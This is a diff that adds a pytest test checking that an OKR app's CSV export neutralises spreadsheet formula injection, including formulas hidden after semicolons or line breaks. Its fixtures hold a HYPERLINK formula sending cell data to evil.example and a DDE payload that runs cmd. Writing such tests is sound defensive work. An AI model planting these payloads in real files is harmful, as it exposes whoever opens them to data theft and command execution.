@@ -59,3 +59,21 @@ def test_a_formula_imported_as_a_comment_is_exported_as_text(login):
     exported = client.get(f"/exports/check-ins.csv?cycle={kr.objective.cycle_id}").data.decode("utf-8-sig")
     [row] = list(csv.DictReader(io.StringIO(exported)))
     assert row["Comment"] == "'=HYPERLINK(\"http://evil.example/\"&A1)"
+
+
+@pytest.mark.parametrize("comment", ["Done;=cmd|' /C calc'!A0", "Done; @SUM(A1)", "Line one\n=1+1", "a\tb;-2+3"])
+def test_a_formula_after_a_semicolon_or_line_break_is_neutralised_for_spreadsheets_that_split_there(login, comment):
+    """Excel in a Finnish locale reads a comma-separated file split on semicolons, and ends a row at a
+    line break: every piece of a text cell must still not start a formula."""
+    from okrapp.services import okrs
+    executive = make_user("executive")
+    kr = make_key_result(unit=make_unit(), metric_key="csat")
+    db.session.commit()
+    okrs.record_check_in(kr, 75, 7, comment, executive)
+    db.session.commit()
+    exported = login(executive).get(f"/exports/check-ins.csv?cycle={kr.objective.cycle_id}").data.decode("utf-8-sig")
+    pieces = [piece.lstrip(' "') for line in exported.replace("\r\n", "\n").split("\n")
+              for piece in line.replace("\t", ";").split(";")]
+    assert not [p for p in pieces if p[:1] in ("=", "+", "-", "@")], exported
+    [row] = list(csv.DictReader(io.StringIO(exported)))
+    assert row["Comment"].replace("'", "") == comment.replace("'", "")  # only apostrophes added
